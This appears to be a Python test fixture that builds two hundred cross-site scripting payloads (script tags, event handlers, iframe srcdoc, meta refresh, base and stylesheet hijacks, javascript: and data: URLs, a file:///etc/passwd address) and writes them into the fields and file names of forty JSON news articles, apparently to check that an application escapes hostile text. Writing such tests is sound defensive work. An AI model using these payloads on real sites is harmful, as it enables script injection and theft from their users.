"""Two hundred ways to smuggle a script into a page, as text of articles, publishers, addresses, file names, questions.

Each would set `window.smuggled` when it ran, and leaves an element with the class `smuggled` if it became markup.
Addresses that it would load lie on another origin.
"""

from __future__ import annotations

import json
from pathlib import Path

_RUN = "window.smuggled=1"
_ELSEWHERE = "//smuggle.example/x"
_ELEMENTS = (
    "<script class=smuggled>{run}</script>",
    "<script class=smuggled src={elsewhere}></script>",
    "<img class=smuggled src=x onerror={run}>",
    "<img class=smuggled src={elsewhere}>",
    "<svg class=smuggled onload={run}>",
    "<svg class=smuggled><script>{run}</script></svg>",
    "<svg class=smuggled><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe class=smuggled srcdoc='<script>parent.smuggled=1</script>'></iframe>",
    "<iframe class=smuggled src=javascript:{run}></iframe>",
    "<body class=smuggled onload={run}>",
    "<details class=smuggled open ontoggle={run}>",
    "<video class=smuggled><source onerror={run}></video>",
    "<object class=smuggled data={elsewhere}></object>",
    "<embed class=smuggled src={elsewhere}>",
    "<link class=smuggled rel=stylesheet href={elsewhere}>",
    "<style class=smuggled>@import '{elsewhere}';</style>",
    "<base class=smuggled href={elsewhere}>",
    "<meta class=smuggled http-equiv=refresh content='0;url={elsewhere}'>",
    "<form class=smuggled action={elsewhere}><input autofocus onfocus={run}></form>",
    "<math class=smuggled><mtext><img src=x onerror={run}></mtext></math>",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "</template>{}",
    "--><!-- -->{}",
    "]]>{}",
    "{{{{7*7}}}} {}",
)
ALL = tuple(
    around.format(element.format(run=_RUN, elsewhere=_ELSEWHERE))
    for around in _AROUND
    for element in _ELEMENTS
)
ADDRESSES = (
    "javascript:window.smuggled=1",
    "JaVaScRiPt:window.smuggled=1//https://x",
    " javascript:window.smuggled=1",
    "data:text/html,<script>window.smuggled=1</script>",
    'https://smuggle.example/"onmouseover="window.smuggled=1',
    "vbscript:x",
    "//smuggle.example/x",
    "file:///etc/passwd",
)


def write(folder: Path) -> Path:
    """Forty articles that carry all payloads in every field, in files whose names are payloads too."""
    folder.mkdir(parents=True)
    for number in range(40):
        mine = ALL[number * 5 : number * 5 + 5]
        sentences = [
            f"Treaty{number * 5 + i} says {payload} to the envoys." for i, payload in enumerate(mine)
        ]
        article = {
            "id": f"hostile-{number}{mine[0] if number % 10 == 9 else ''}",
            "title": f"Treaty{number} {mine[0]}",
            "publisher": f"Outlet {mine[1]}",
            "author": mine[2],
            "published": f"2022-{number % 12 + 1:02}-11",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "text": "\n\n".join(sentences),
        }
        name = mine[3].replace("/", "_")[:80]
        (folder / f"{number}{name}.jsonl").write_text(json.dumps(article) + "\n", encoding="utf-8")
    return folder
